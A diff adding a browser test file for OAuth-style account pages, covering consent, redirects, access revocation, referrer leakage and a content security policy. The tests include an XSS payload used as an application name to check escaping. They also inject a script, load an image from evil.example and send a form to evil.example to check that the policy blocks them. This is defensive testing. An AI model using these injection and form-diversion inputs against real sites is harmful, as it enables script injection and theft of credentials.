@@ -1,0 +1,152 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import t from 'tap'
+import type { Test } from 'tap'
+import { PASSWORD, standInAuthorization, startAccountPages, startPagesDatabase } from '../../support/account-pages.ts'
+import { createVisitor } from '../../support/account-pages-visitor.ts'
+import { NO_BROWSER, openIn } from '../browser-fixture.ts'
+import { loopbackRequest, signIn } from './fixture.ts'
+
+/** An application to whose address browsers come back: on another origin, which sends them on to a third. */
+async function startApplication(t: Test) {
+  const seen: { readonly url: string; readonly referer: string | undefined }[] = []
+  const server = createServer((request, response) => {
+    seen.push({ url: request.url ?? '', referer: request.headers.referer })
+    if (request.url?.startsWith('/callback')) {
+      const { port } = server.address() as AddressInfo
+      response.writeHead(302, { location: `http://[::1]:${port}/done` })
+      response.end()
+    } else {
+      response.setHeader('content-type', 'text/html')
+      response.end('<title>done</title>')
+    }
+  })
+  await new Promise<void>((resolve) => server.listen(0, '::', resolve))
+  t.teardown(() => server.close())
+  const { port } = server.address() as AddressInfo
+  const redirectUri = `http://127.0.0.1:${port}/callback`
+  return { seen, redirectUri }
+}
+
+t.test('pages of accounts in a browser', { skip: NO_BROWSER, timeout: 110_000 }, async (t) => {
+  const database = await startPagesDatabase(t)
+
+  await t.test('an application is connected, used and cut off without JavaScript', async (t) => {
+    const application = await startApplication(t)
+    const name = '<img src=x onerror=alert(1)>"\'>Agent'
+    const { stores, url } = await startAccountPages(t, database, {
+      authorization: standInAuthorization(loopbackRequest(application.redirectUri, name)),
+    })
+    const { open } = await openIn(t, url)
+    const page = await open(t, '/authorize?client_id=x&state=1', { javaScriptEnabled: false })
+    await page.getByRole('link', { name: 'Create an account' }).click()
+    await page.getByLabel('E-mail address').fill('ann@example.org')
+    await page.getByLabel('Password').fill(PASSWORD)
+    await page.getByRole('button', { name: 'Create account' }).click()
+    await page.getByRole('heading', { name: 'Ready to sign in' }).waitFor()
+    await signIn(page)
+    t.match(page.url(), /\/authorize\?client_id=x&state=1$/, 'the request goes on where it was')
+    t.equal(await page.getByRole('heading', { level: 1 }).textContent(), `Allow ${name} to use your account?`)
+    t.equal(await page.locator('img').count(), 0)
+    await page.getByText('Did you start this yourself?').waitFor()
+    await page.getByText('delete them, for good').waitFor()
+
+    await page.getByRole('button', { name: 'Deny' }).click()
+    await page.waitForURL('**/done')
+    t.match(application.seen[0]?.url, /error=access_denied/)
+
+    await page.goto(`${url}/authorize?client_id=x&state=2`)
+    await page.getByRole('button', { name: 'Allow' }).click()
+    await page.waitForURL('**/done')
+    t.match(application.seen.find((each) => each.url.includes('code='))?.url, /^\/callback\?code=secret/)
+    t.strictSame(
+      [...new Set(application.seen.map(({ referer }) => referer))],
+      [undefined],
+      'no address of ours is told',
+    )
+
+    const user = (await stores.users.findByEmail('ann@example.org'))!
+    await stores.connect(user.id, 'cli_x', name)
+    await page.goto(`${url}/account/applications`)
+    await page.getByRole('button', { name: `End access of ${name}` }).click()
+    await page.getByText('The access has ended.').waitFor()
+    await page.getByText('No application is connected.').waitFor()
+
+    await page.goto(`${url}/authorize?client_id=x&state=3`)
+    await page.getByRole('button', { name: 'Use another account' }).click()
+    await page.getByLabel('E-mail address').waitFor()
+    await page.getByRole('link', { name: '한국어' }).click()
+    t.equal(await page.locator('html').getAttribute('lang'), 'ko')
+    t.match(page.url(), /\/authorize\?client_id=x&state=3&lang=ko$/)
+  })
+
+  await t.test('who was allowed before goes straight on after the sign-in, whatever redirects follow', async (t) => {
+    const application = await startApplication(t)
+    const { url } = await startAccountPages(t, database, {
+      authorization: standInAuthorization(loopbackRequest(application.redirectUri, 'Agent')),
+    })
+    await createVisitor(url).signUp('ann@example.org')
+    const { open } = await openIn(t, url)
+    const page = await open(t, '/authorize?approved', { javaScriptEnabled: false })
+    await signIn(page)
+    await page.waitForURL('**/done')
+    t.match(application.seen[0]?.url, /^\/callback\?code=secret/)
+    await page.goto(`${url}/account`)
+    await page.getByRole('heading', { name: 'ann@example.org' }).waitFor()
+  })
+
+  await t.test('Chromium would stop a redirect after the form: this is why there is a page between', async (t) => {
+    const application = await startApplication(t)
+    const server = createServer((request, response) => {
+      if (request.method === 'POST') response.writeHead(303, { location: application.redirectUri })
+      else {
+        response.setHeader('content-security-policy', "form-action 'self'")
+        response.setHeader('content-type', 'text/html')
+      }
+      response.end('<form method="post"><button>Go</button></form>')
+    })
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    t.teardown(() => server.close())
+    const { open } = await openIn(t, `http://127.0.0.1:${(server.address() as AddressInfo).port}`)
+    const page = await open(t, '/')
+    const violation = page.waitForEvent('console', (message) => message.text().includes('form-action'))
+    await page.getByRole('button').click()
+    await violation
+    t.equal(application.seen.length, 0)
+  })
+
+  await t.test('the policy of the pages lets no script and no foreign form out', async (t) => {
+    const { url } = await startAccountPages(t, database)
+    const { open } = await openIn(t, url)
+    const page = await open(t, '/sign-in')
+    const blocked: string[] = []
+    page.on('console', (message) => blocked.push(message.text()))
+    await page.evaluate(`
+      const script = document.createElement('script')
+      script.textContent = 'document.title = "run"'
+      document.body.append(script)
+      const image = document.createElement('img')
+      image.src = 'https://evil.example/x.png'
+      document.body.append(image)
+      document.forms[0].action = 'https://evil.example/'
+      document.forms[0].submit()`)
+    while (blocked.length < 3) await page.waitForTimeout(20)
+    t.not(await page.title(), 'run')
+    for (const directive of ['script-src', 'img-src', 'form-action']) {
+      t.ok(
+        blocked.some((text) => text.includes(directive) || text.includes('default-src')),
+        directive,
+      )
+    }
+    t.equal(page.url(), `${url}/sign-in`)
+    const framed = await open(t, '/', {})
+    await framed.setContent(`<iframe src="${url}/sign-in"></iframe>`)
+    t.notMatch(
+      await framed
+        .frames()[1]
+        ?.evaluate('document.body?.innerHTML ?? ""')
+        .catch(() => ''),
+      'password',
+    )
+  })
+})
